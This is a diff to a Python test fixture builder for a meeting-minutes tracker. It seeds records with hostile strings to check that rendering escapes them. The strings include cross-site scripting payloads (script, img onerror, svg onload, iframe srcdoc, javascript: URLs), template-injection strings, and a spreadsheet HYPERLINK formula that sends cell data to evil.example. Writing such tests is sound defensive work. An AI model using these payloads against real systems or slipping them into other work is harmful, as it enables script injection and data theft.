@@ -14,7 +14,7 @@ from minutesminer.store.tracker import Change, Record, add, find_record, save
 from minutesminer.store.tracker_file import tracker_path
 
 # Whatever of these runs leaves a flag in the window.
-WORDS = (
+_HOSTILE = (
     '=HYPERLINK("https://evil.example/?x="&A1,"click")<script>window.hacked=1;alert(1)</script>',
     '"><img src=x onerror="window.hacked=2;alert(2)">',
     '\'><svg/onload=window.hacked=3><iframe srcdoc="<script>parent.hacked=4</script>">',
@@ -26,6 +26,8 @@ WORDS = (
     "{{ 7*7 }}{% import 'os' %}${7*7}⟦<u>⟧",
     'javascript:window.hacked=8//"`<!--',
 )
+# Each begins otherwise, and has all of them in it.
+WORDS = tuple(" ".join(_HOSTILE[place:] + _HOSTILE[:place]) for place in range(len(_HOSTILE)))
 ADDRESSES = (
     "javascript:window.hacked=9",
     'https://ok.example/"><script>window.hacked=10</script>',
@@ -61,13 +63,15 @@ def build(path: Path) -> None:
         for table, description in TABLES.items():
             if description.full_text:
                 db.table(table).rebuild_fts()
-    said = Change("open", WORDS[1], None, WORDS[2])
+    # Names are short there.
+    name, other, third = _HOSTILE[:3]
+    said = Change("open", WORDS[1], None, name)
     with open_database(path) as db:
         action = find_record(db.conn, records_of("a")[0])
     assert action is not None
-    save(tracker_path(path), action, said, WORDS[0])
-    by_hand = {"council": WORDS[0], "committee": WORDS[1], "date": None, "what": WORDS[2]}
-    add(tracker_path(path), Record("", "follow_up", council_id=None, committee_id=None, **by_hand), said, WORDS[3])
+    save(tracker_path(path), action, said, other)
+    by_hand = Record("", "follow_up", council=name, committee=other, what=WORDS[2])
+    add(tracker_path(path), by_hand, said, third)
 
 
 # What linking fills.
